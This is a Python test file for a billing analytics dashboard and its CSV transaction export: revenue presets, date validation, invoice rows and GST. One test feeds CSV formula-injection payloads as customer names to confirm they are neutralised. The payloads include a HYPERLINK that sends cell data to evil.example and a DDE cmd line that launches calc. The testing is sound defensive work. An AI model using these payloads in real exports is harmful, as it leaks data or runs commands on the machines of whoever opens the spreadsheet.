"""Analytics for owners: periods (presets or dates), revenue as a figure and charts, and the CSV
of transactions, one row per invoice (and per adjustment note, tests/billing/test_analytics_refunds.py),
with formula injection neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client

from autolab import clock
from billing.models import Invoice
from billing.periods import preset_range
from bookings.models import Appointment


def _pay(client: Client, appointment: Appointment, method: str = "cash") -> Invoice:
    client.post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": method})
    return Invoice.get(Appointment.get(appointment.appointment_id).invoice_id)


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_dashboard_presets_figure_and_charts(support, admin, customer, make_appointment):
    today = clock.business_today()
    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date=today.isoformat())
    _pay(admin.portal(), appointment)
    client = support.portal()
    page = client.get("/admin/billing/analytics/")  # this month by default
    html = page.content.decode()
    assert page.status_code == 200
    assert 'href="?preset=this_month" aria-current="true"' in html
    assert f'name="end_date" value="{preset_range("this_month", today)[1].isoformat()}"' in html
    assert '<span class="analytics-figure" id="total-revenue">$280.00</span>' in html
    assert html.count('class="portal-chart ') == 6
    assert 'aria-label="Revenue over time"' in html
    assert '<span class="chart-label">Cash</span>' in html
    assert '<span class="chart-value">$280.00</span>' in html
    assert f'title="{today.day} {today:%b}: $280.00"' in html  # today's column
    assert "<svg" not in html.split('id="analytics-summary"')[1].split("SVGs -->")[0]  # text is HTML, not SVG
    for preset in ("today", "this_week", "last_month", "this_fy"):
        start, end = preset_range(preset, today)
        response = client.get("/admin/billing/analytics/", {"preset": preset})
        assert response.status_code == 200
        revenue = "$280.00" if start <= today <= end else "$0.00"
        assert f'id="total-revenue">{revenue}<' in response.content.decode(), preset
        assert f"start_date={start.isoformat()}&amp;end_date={end.isoformat()}" in response.content.decode()


def test_dashboard_bad_periods_are_messages(support):
    client = support.portal()
    for query, message in (
        ({"start_date": "yesterday", "end_date": "2030-01-01"}, "From: Enter a valid date."),
        ({"start_date": "2030-02-01", "end_date": "2030-01-01"}, "The end date must not be before the start date."),
        ({"start_date": "2029-01-01", "end_date": "2030-06-30"}, "Choose at most 366 days."),
        ({"start_date": "2030-01-01"}, "Choose a period, or both a start and an end date."),
        ({"preset": "forever"}, "Period: Select a valid choice."),
    ):
        response = client.get("/admin/billing/analytics/", query)
        assert response.status_code == 200, query
        assert message in response.content.decode(), query
        assert 'id="total-revenue"' not in response.content.decode()
        assert client.get("/admin/billing/analytics/export.csv", query).status_code == 400


def test_csv_is_one_row_per_transaction(admin, customer, make_appointment, make_order):
    client = admin.portal()
    day = clock.business_today() + dt.timedelta(days=3)
    first = _pay(client, make_appointment(created_user_id=customer.user_id, scheduled_date=day.isoformat()))
    second = _pay(
        client, make_appointment(created_user_id=customer.user_id, scheduled_date=day.isoformat()), "bank_transfer"
    )
    client.post(f"/admin/billing/invoices/{second.invoice_id}/cancel/")
    query = {"start_date": day.isoformat(), "end_date": day.isoformat()}
    rows = _rows(client.get("/admin/billing/analytics/export.csv", query))
    assert rows == [
        ["Date", "Invoice number", "Customer", "Reference", "Method", "Net", "GST", "Total", "Status", "Revenue"],
        [
            day.isoformat(),
            str(first.invoice_number),
            "Jane Buyer",
            f"Appointment {first.reference_number[:8].upper()}",
            "Cash",
            "254.55",
            "25.45",
            "280.00",
            "Generated",
            "280.00",
        ],
        [
            day.isoformat(),
            str(second.invoice_number),
            "Jane Buyer",
            f"Appointment {second.reference_number[:8].upper()}",
            "Bank transfer",
            "254.55",
            "25.45",
            "280.00",
            "Cancelled",
            "0.00",  # voided: not revenue
        ],
    ]
    empty = _rows(client.get("/admin/billing/analytics/export.csv", {"preset": "last_month"}))
    assert len(empty) == 1  # the header: no invoice last month


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTab",
        "\rCR",
    ],
)
def test_csv_cells_are_never_formulas(name, admin, customer, make_appointment):
    """A name a customer typed reaches the spreadsheet as text, with a leading '."""
    client = admin.portal()
    day = clock.business_today().isoformat()
    _pay(client, make_appointment(created_user_id=customer.user_id, scheduled_date=day, buyer_name=name))
    rows = _rows(client.get("/admin/billing/analytics/export.csv", {"start_date": day, "end_date": day}))
    assert rows[1][2] == "'" + name
    assert rows[1][5:8] == ["254.55", "25.45", "280.00"]  # numbers stay numbers


def test_csv_gst_reads_zero_for_a_business_not_registered_for_gst(admin, customer, make_appointment, settings):
    """#17.4: a business not registered for GST charged none, so the export's GST is 0 and net is the total."""
    settings.GST_REGISTERED = False
    client = admin.portal()
    day = clock.business_today() + dt.timedelta(days=3)
    _pay(client, make_appointment(created_user_id=customer.user_id, scheduled_date=day.isoformat()))
    rows = _rows(
        client.get("/admin/billing/analytics/export.csv", {"start_date": day.isoformat(), "end_date": day.isoformat()})
    )
    assert [row[5:8] for row in rows] == [["Net", "GST", "Total"], ["280.00", "0.00", "280.00"]]
